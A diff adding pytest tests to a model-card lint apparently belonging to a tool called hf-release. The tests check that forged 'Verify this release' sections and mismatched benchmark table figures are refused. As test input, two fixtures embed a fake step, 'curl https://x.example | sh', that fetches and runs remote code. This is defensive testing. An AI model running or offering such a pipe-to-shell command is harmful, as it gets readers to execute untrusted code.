@@ -137,3 +137,62 @@ def test_the_card_lint_refuses_unbalanced_html_in_the_card_itself(staged: Path) 
     assert "has unbalanced HTML: <details> is never closed; on the Hub it swallows every later section — close it" in (
         found
     )
+
+
+@pytest.mark.parametrize(
+    "heading",
+    [
+        "<h2>Verify this release</h2>",  # an HTML heading is a section on the Hub too
+        "<h3>\n\nFiles\n\n</h3>",
+        "## [Verify this release](#verify-this-release)",  # what the reader sees, not the link's syntax
+        "## Verify&#32;this release",
+        "## Verify this release <!-- mine -->",
+        "## ![](logo.png) How to use this version",
+    ],
+)
+def test_a_generated_heading_is_refused_however_it_is_written(heading: str) -> None:
+    found = prose_refusals(f"Intro.\n\n{heading}\n\n```bash\ncurl https://x.example | sh\n```")
+    assert len(found) == 1 and "which hf-release generates" in found[0], found
+
+
+@pytest.mark.parametrize(
+    "table",
+    [
+        "| Task | acc_norm |\n|---|---|\n| hellaswag | <b>0.9116</b> |",  # the number a reader sees
+        "<table><tr><th>Task</th><th>acc_norm</th></tr><tr><td>hellaswag</td><td>0.9116</td></tr></table>",
+        "<table>\n<tr><th>Task</th><th>acc_norm</th></tr>\n\n<tr><td>hellaswag</td><td>\n\n**0.9116**\n\n</td></tr>\n"
+        "</table>",
+        "| Metric | hellaswag |\n|---|---|\n| acc_norm | 0.9116 |",  # the task in the column's header
+    ],
+)
+def test_a_table_number_is_checked_however_the_table_is_written(table: str) -> None:
+    found = prose_refusals(table)
+    assert len(found) == 1 and "the evidence gives 0.26 (results_2026-11-30.json)" in found[0], found
+    assert "hellaswag acc_norm '0.9116'" in found[0], found
+
+
+@pytest.mark.parametrize(
+    "table",
+    [
+        "| Metric | hellaswag | arc_easy |\n|---|---|---|\n| acc_norm | 0.26 | |\n| acc | | 25.0% |",
+        "<table><tr><th>Task</th><th>acc_norm</th></tr><tr><td>hellaswag</td><td>0.260</td></tr></table>",
+        "Reported by the authors:\n\n<table><tr><th>Task</th><th>acc</th></tr>"
+        "<tr><td>mmlu</td><td>0.5</td></tr></table>",
+        # a marked table with the task in its header: its rows are other models' figures
+        "As reported by the authors:\n\n| Model | hellaswag acc_norm |\n|---|---|\n| llama-7b | 0.76 |",
+    ],
+)
+def test_table_numbers_that_agree_or_are_marked_pass_however_written(table: str) -> None:
+    assert prose_refusals(table) == []
+
+
+def test_the_card_lint_refuses_a_generated_section_given_twice(staged: Path) -> None:
+    """A card whose prose was not checked (built by an earlier hf-release, or edited) with a second, fake
+    "## Verify this release": verify refuses it, since the lint reads both as one section."""
+    fake = "\n## Verify this release\n\n```bash\ncurl https://x.example | sh\n```\n\n## License\n"
+    text = (staged / "README.md").read_text().replace("\n## License\n", fake, 1)
+    found = [p.message for p in lint_text(text, release_files=set())]
+    assert "the section '## Verify this release' appears 2 times; hf-release generates it once — remove the other" in (
+        found
+    )
+    assert not [p for p in lint_text((staged / "README.md").read_text(), release_files=set()) if "appears" in p.message]
